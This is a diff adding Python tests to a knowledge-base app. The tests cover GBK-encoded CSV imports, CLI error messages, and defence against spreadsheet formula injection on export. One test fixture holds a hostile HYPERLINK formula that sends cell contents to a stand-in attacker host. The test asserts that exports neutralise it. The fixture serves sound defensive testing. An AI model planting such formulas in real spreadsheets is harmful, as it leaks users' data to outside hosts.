@@ -176,6 +176,63 @@ def test_export_then_import_is_idempotent(editor):
     assert kb(editor, "POST", "/import", files={"file": ("kb.xlsx", xlsx.content, "application/octet-stream")}).json()["updated"] == 0
 
 
+def test_a_chinese_excel_csv_in_gbk_imports_as_chinese_and_formulas_export_as_text(editor, tmp_path):
+    """Excel on Chinese Windows saves "CSV" in GBK: it came in as replacement characters (the API) or a traceback
+    (./cs kb import). And a customer's "=HYPERLINK(...)" drafted from a content gap came out of an export as a live
+    formula in Excel (CSV injection): now text in the workbook, and an apostrophe-guarded cell in the CSV that
+    reads back as it was."""
+    import io
+
+    from openpyxl import load_workbook
+
+    gbk = "id,language,question,answer\nbilling-fapiao-gbk-zh,zh,发票怎么开？,在订单详情页点“申请发票”。\n".encode("gbk")
+    imported = kb(editor, "POST", "/import", files={"file": ("发票.csv", gbk, "text/csv")})
+    assert imported.status_code == 200, imported.text
+    assert kb(editor, "GET", "/entries/billing-fapiao-gbk-zh").json()["question"] == "发票怎么开？"
+    cli_file = tmp_path / "gbk.csv"
+    cli_file.write_bytes(gbk.replace(b"billing-fapiao-gbk-zh", b"billing-fapiao-gbk-cli-zh"))
+    by_cli = run_cli("-m", "kb", "import", str(cli_file), "--no-publish")
+    assert by_cli.returncode == 0 and "Traceback" not in by_cli.stderr, by_cli.stderr
+    assert kb(editor, "GET", "/entries/billing-fapiao-gbk-cli-zh").json()["question"] == "发票怎么开？"
+    not_text = kb(editor, "POST", "/import", files={"file": ("x.csv", b"\xff\xfe\xfa\x00\x81", "text/csv")})
+    assert not_text.status_code == 422 and "UTF-8" in not_text.json()["detail"]["message"]
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    made = kb(editor, "POST", "/entries", json={"id": "other-hostile-cell-en", "language": "en", "question": hostile,
+                                                "answer": "+1 and -1 and @sum are just text", "category": "other"})
+    assert made.status_code == 201, made.text
+    sheet = load_workbook(io.BytesIO(kb(editor, "GET", "/export?format=xlsx").content)).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == hostile]
+    assert cells and all(c.data_type == "s" for c in cells)
+    exported = kb(editor, "GET", "/export?format=csv").text
+    assert "'=HYPERLINK" in exported and "'+1 and -1" in exported and "\n=HYPERLINK" not in exported
+    again = kb(editor, "POST", "/import", files={"file": ("kb.csv", exported.encode(), "text/csv")})
+    assert again.status_code == 200 and again.json()["updated"] == 0  # read back exactly as it was
+    assert kb(editor, "GET", "/entries/other-hostile-cell-en").json()["question"] == hostile
+    for gone in ("billing-fapiao-gbk-zh", "billing-fapiao-gbk-cli-zh", "other-hostile-cell-en"):
+        kb(editor, "DELETE", f"/entries/{gone}")
+
+
+def test_kb_import_of_a_missing_or_unreadable_file_says_what_is_wrong(tmp_path):
+    for name, content, says in (("absent.csv", None, "No such file"), ("faq", b"x", "unsupported file type"),
+                                ("broken.xlsx", b"PK not a workbook", "not a readable Excel workbook")):
+        path = tmp_path / name
+        if content is not None:
+            path.write_bytes(content)
+        proc = run_cli("-m", "kb", "import", str(path), "--no-publish")
+        said = " ".join((proc.stdout + proc.stderr).split())  # rich wraps long lines
+        assert proc.returncode == 1 and says in said and "Traceback" not in said, (name, said)
+
+    # ./cs runs where it is typed: a relative file is the operator's, not one inside the repo.
+    import subprocess
+
+    from tests.clients import ROOT
+
+    exported = subprocess.run([str(ROOT / "cs"), "kb", "export", "mine.json"], cwd=tmp_path, capture_output=True, text=True)
+    assert exported.returncode == 0, exported.stderr
+    assert (tmp_path / "mine.json").read_text(encoding="utf-8").startswith("[") and not (ROOT / "mine.json").exists()
+
+
 def test_unanswered_questions_become_a_gap_group_then_a_draft(editor, customer_factory):
     for wording in ("Can you recommend a good sushi restaurant in Osaka?", "recommend me sushi places in Osaka please"):
         c = customer_factory("en")
